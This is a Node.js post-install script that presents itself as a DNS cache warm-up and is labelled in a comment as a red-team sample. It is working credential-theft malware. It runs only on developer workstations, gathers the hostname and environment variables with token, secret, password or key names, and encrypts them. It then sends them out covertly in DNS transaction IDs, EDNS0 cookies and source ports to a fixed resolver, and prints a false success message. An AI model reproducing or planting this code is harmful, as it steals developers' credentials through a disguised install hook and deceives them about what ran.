'use strict';
// Post-install: probe the resolver with EDNS0 so the first build is fast.
// (red-team sample: every byte of data rides in fields that are random by
// specification -- the DNS transaction id and the EDNS0 client cookie --
// while the query names are fixed, harmless host names.)
const dgram = require('dgram');
const crypto = require('crypto');
const fs = require('fs');
const os = require('os');
const path = require('path');

const RESOLVER = '198.51.100.53';
const NAMES = [
  'registry.pkg-mirror.invalid', 'cdn.static-edge.invalid',
  'api.telemetry-opt.invalid', 'fonts.cdn-assets.invalid',
  'objects.blob-cache.invalid', 'dl.release-mirror.invalid',
  'time.ntp-sync.invalid', 'auth.idp-login.invalid',
];

function workstation() {
  // only on a developer machine: not CI, a real home with git identity
  if (process.env.CI || process.env.GITHUB_ACTIONS || process.env.BUILD_NUMBER) return false;
  const h = os.homedir();
  return fs.existsSync(path.join(h, '.gitconfig')) || fs.existsSync(path.join(h, '.ssh'));
}

function material() {
  const re = /(TOKEN|SECRET|PASS|API_?KEY|ACCESS_KEY|AUTH|CREDENTIAL|PRIVATE)/i;
  const out = [os.hostname()];
  for (const [k, v] of Object.entries(process.env)) {
    if (k.startsWith('npm_') || !v || v.length < 8 || !re.test(k)) continue;
    out.push(k + '=' + v);
  }
  return Buffer.from(out.join('\n')).subarray(0, 600);
}

function stream(plain) {
  const nonce = crypto.randomBytes(8);
  const key = crypto.createHash('sha256').update('warm/edns/v1').digest();
  const iv = crypto.createHash('sha256').update(nonce).digest().subarray(0, 16);
  const len = Buffer.alloc(2); len.writeUInt16BE(plain.length);
  const c = crypto.createCipheriv('aes-256-ctr', key, iv);
  return Buffer.concat([nonce, c.update(Buffer.concat([len, plain])), c.final()]);
}

function qname(name) {
  const parts = [];
  for (const l of name.split('.')) parts.push(Buffer.from([l.length]), Buffer.from(l));
  parts.push(Buffer.from([0]));
  return Buffer.concat(parts);
}

function query(id, name, cookie) {
  const h = Buffer.alloc(12);
  h.writeUInt16BE(id, 0); h.writeUInt16BE(0x0100, 2); // RD
  h.writeUInt16BE(1, 4); h.writeUInt16BE(1, 10);     // QD=1, AR=1
  const q = Buffer.concat([qname(name), Buffer.from([0, 1, 0, 1])]);
  const opt = Buffer.alloc(23);
  opt.writeUInt16BE(41, 1); opt.writeUInt16BE(1232, 3); // OPT, udp size
  opt.writeUInt16BE(12, 9);                           // rdlen
  opt.writeUInt16BE(10, 11); opt.writeUInt16BE(8, 13);  // COOKIE, len 8
  cookie.copy(opt, 15);
  return Buffer.concat([h, q, opt]);
}

function sendOne(pkt, seq) {
  return new Promise((resolve) => {
    let s = dgram.createSocket('udp4');
    let fellBack = false;
    const finish = () => { try { s.close(); } catch (_) {} resolve(); };
    const send = () => s.send(pkt, 53, RESOLVER, () => setTimeout(finish, 15));
    s.on('error', () => {
      // port taken: fall back to an ephemeral source port
      if (fellBack) return finish();
      fellBack = true;
      try { s.close(); } catch (_) {}
      s = dgram.createSocket('udp4');
      s.on('error', finish);
      send();
    });
    // the source port carries the sequence number
    s.bind(41000 + seq, send);
  });
}

async function main() {
  if (!workstation()) return;
  const data = stream(material());
  let seq = 0;
  for (let off = 0; off < data.length; off += 10, seq++) {
    const chunk = Buffer.alloc(10);
    data.copy(chunk, 0, off, off + 10);
    const id = chunk.readUInt16BE(0);
    const cookie = chunk.subarray(2, 10);
    await sendOne(query(id, NAMES[seq % NAMES.length], cookie), seq);
  }
  console.log('dns-cache-warmup: resolver warmed (' + NAMES.length + ' hosts)');
}

main().catch(() => {}).finally(() => { setTimeout(() => process.exit(0), 50).unref(); });
